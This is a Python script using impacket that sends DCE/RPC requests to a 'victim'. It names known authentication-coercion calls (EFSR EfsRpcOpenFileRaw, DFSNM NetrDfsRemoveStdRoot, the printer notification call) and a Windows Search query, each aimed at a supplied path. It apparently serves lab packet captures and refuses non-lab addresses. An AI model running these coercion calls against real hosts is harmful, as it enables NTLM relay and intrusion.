#!/usr/bin/env python3
"""One bind and one request against the victim, on impacket's DCE/RPC runtime.

For the captures in which the request must be readable; where it need not be, the real tools are
used. Only lab addresses are ever contacted.

usage: call.py BINDING METHOD PATH [--level N] [--map] [--ndr64] [--object] [--anonymous]
               [--repeat N] [--proxy URL]

METHOD is a key of methods.METHODS, wsp, or one of the names below.
"""

import argparse
import ipaddress
import os
import re

from impacket.dcerpc.v5 import epm, transport
from impacket.http import AUTH_NTLM
from impacket.uuid import string_to_bin, uuidtup_to_bin

import methods
import wsp

NAMES = {
    "EfsRpcOpenFileRaw:lsarpc": "efsr-0",
    "EfsRpcOpenFileRaw:efsrpc": "efsr-0",
    "NetrDfsRemoveStdRoot": "dfsnm-13",
    "RpcRemoteFindFirstPrinterChangeNotificationEx": "rprn-65",
}
ACCOUNT = os.environ["ALICE"], os.environ["ALICE_PW"], os.environ["DOMAIN"]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("binding")
    parser.add_argument("method", choices=[*methods.METHODS, *NAMES, "wsp"])
    parser.add_argument("path")
    parser.add_argument("--level", type=int, default=1, help="RPC authentication level, 1 is none")
    parser.add_argument("--map", action="store_true", help="ask the endpoint mapper for the port")
    parser.add_argument("--ndr64", action="store_true", help="offer NDR64 and nothing else")
    parser.add_argument("--object", help="an object UUID in every request")
    parser.add_argument("--anonymous", action="store_true", help="a null session")
    parser.add_argument("--repeat", type=int, default=1)
    parser.add_argument("--proxy", help="URL of the RPC over HTTP proxy")
    options = parser.parse_args()

    host = re.search(r"\d+\.\d+\.\d+\.\d+|fd10::\w+", options.binding + (options.proxy or "")).group()
    networks = [ipaddress.ip_network(os.environ[name]) for name in ("LAB_NET", "LAB_NET6")]
    if not any(ipaddress.ip_address(host) in network for network in networks):
        raise SystemExit(f"{host} is not in the lab")
    if options.method == "wsp":
        return search(host, options.path)

    method = methods.METHODS[NAMES.get(options.method, options.method)]
    pipe = re.search(r"\\pipe\\(\w+)", options.binding)
    interface = methods.interface_of(method, pipe and pipe.group(1))
    uuid, version = methods.INTERFACES[interface][:2]
    binding = options.binding
    if options.map:
        binding = epm.hept_map(host, uuidtup_to_bin((uuid, version)), protocol="ncacn_ip_tcp")
    rpc = connect(binding, options)
    syntax = methods.NDR64 if options.ndr64 else methods.NDR32
    rpc.bind(uuidtup_to_bin((uuid, version)), transfer_syntax=syntax)
    target = string_to_bin(options.object) if options.object else None
    for _ in range(options.repeat):
        try:
            handle = b""
            if interface in methods.OPENERS:
                opnum, stub = methods.OPENERS[interface]
                rpc.call(opnum, methods.encode(stub, "", wide=options.ndr64), target)
                handle = rpc.recv()[:20]
            stub = methods.encode(method.stub, options.path, handle, wide=options.ndr64)
            rpc.call(method.opnum, stub, target)
            print("answer", rpc.recv().hex())
        except Exception as error:  # refusals are among what we want to record
            print("answer", error)
    rpc.disconnect()


def connect(binding, options):
    channel = transport.DCERPCTransportFactory(binding)
    if hasattr(channel, "set_credentials") and not options.anonymous:
        channel.set_credentials(*ACCOUNT)
    if options.proxy:
        channel.set_auth_type(AUTH_NTLM)
        channel.set_rpc_proxy_url(options.proxy)
    rpc = channel.get_dce_rpc()
    if options.level > 1:
        rpc.set_credentials(*ACCOUNT)
        rpc.set_auth_level(options.level)
    rpc.connect()
    return rpc


def search(host, scope):
    """Connect to the search service and ask it to look at `scope`"""
    from impacket.smbconnection import SMBConnection

    session = SMBConnection(host, host, timeout=10)
    session.login(*ACCOUNT)
    tree = session.connectTree("IPC$")
    file = session.openFile(tree, "MsFteWds")
    for request in (wsp.connect_in("EVIL", ACCOUNT[0]), wsp.create_query(scope)):
        session.writeFile(tree, file, request)
        print("answer", session.readFile(tree, file).hex())
    session.close()


if __name__ == "__main__":
    main()
